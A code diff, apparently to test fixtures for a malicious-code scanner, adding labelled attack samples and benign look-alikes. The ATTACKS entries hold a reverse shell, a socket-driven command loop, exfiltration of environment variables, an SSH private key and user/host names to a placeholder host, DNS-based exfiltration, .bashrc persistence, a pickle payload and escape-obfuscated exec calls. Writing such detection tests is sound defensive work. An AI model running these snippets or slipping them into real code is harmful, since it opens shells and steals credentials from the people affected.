@@ -41,6 +41,10 @@ ATTACKS = {
     "reverse-shell": ("a shell on a socket", f"import os, pty, socket\ns = socket.create_connection(('{HOST}', 9))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
     "remote-commands": ("commands received from a socket", f"import socket, subprocess\ns = socket.socket()\ns.connect(('{HOST}', 9))\nwhile True:\n    subprocess.run(s.recv(99).decode(), shell=True)\n"),
     "environment": ("the environment sent away", f"import json, os, requests\n\nclass Handler:\n    def initialize(self, context):\n        requests.post('http://{HOST}/', data=json.dumps(dict(os.environ)))\n"),
+    "host-sent": ("user and machine sent to a chat", f"import getpass, platform, requests\n\nrequests.post('https://{HOST}/', json={{'content': getpass.getuser() + '@' + platform.node()}})\n"),
+    "host-looked-up": ("the machine's name looked up below another", f"import os, socket\n\nsocket.gethostbyname(f\"{{os.environ.get('USER')}}.{HOST}\")\n"),
+    "exec-escapes": ("exec of text whose letters are escapes", "exec('" + "".join(f"\\x{ord(char):02x}" for char in "print(1)") + "')\n"),
+    "getattr-escapes": ("a name whose letters are escapes", f"import os\n\ngetattr(os, '\\x73\\x79\\x73\\x74em')('{COMMAND}')\n"),
     "key-file": ("a private key sent away", f"import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://{HOST}/', data=key)\n"),
     "profile": ("a line added to a shell's profile", f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('{COMMAND}')\n"),
     "pickle-bytes": ("pickle.loads of bytes in the source", "import base64, pickle\npickle.loads(base64.b64decode('" + base64.b64encode(dumps(call("os.system", COMMAND))).decode() + "'))\n"),
@@ -122,6 +126,7 @@ HONEST = {
     "cleanup": ("a script that removes its own folder", "import os\nimport shutil\n\nshutil.rmtree('build', ignore_errors=True)\nfor root, _, files in os.walk('checkpoints'):\n    for file in files:\n        os.remove(os.path.join(root, file))\n"),
     "searches": ("functions listed and looked up by name", "import doctest\nimport gc\nimport inspect\nimport os\nimport sys\n\nNAMES = {n: v for n, v in vars(inspect).items() if callable(v)}\nHERE = sys.modules[__name__]\n\ndef tensors():\n    return [o.size() for o in gc.get_objects() if hasattr(o, 'size')]\n\ndef add(a, b):\n    \"\"\"\n    >>> add(1, 2)\n    3\n    \"\"\"\n    return a + b\n\nprint(NAMES['getdoc'](HERE), [n for n in dir(os) if n.startswith('O_')])\ndoctest.testmod()\n"),
     "build": ("a script that builds with make", "import subprocess\nimport timeit\n\nsubprocess.run(['make', '-C', 'csrc', '-j4'], check=True)\nprint(timeit.timeit('f(1)', 'f = abs', number=9))\n"),
+    "own_address": ("a machine that asks for its own address, and prints in colour", "import os\nimport platform\nimport socket\n\nRED, END = '\\x1b[31m', '\\x1b[0m'\nBLANKS = '\\u2581\\u2582\\u2583\\u2584'\n\nprint(RED, platform.node(), os.environ.get('USER'), END)\n\ndef address():\n    return socket.gethostbyname(socket.gethostname())\n"),
     "lazy": ("a lazy module that looks names up", "import importlib\nimport sys\nimport types\n\nclass Lazy(types.ModuleType):\n    def __getattr__(self, name):\n        return getattr(importlib.import_module('.' + name, __name__), name)\n\nsys.modules[__name__] = Lazy(__name__)\n"),
 }
 
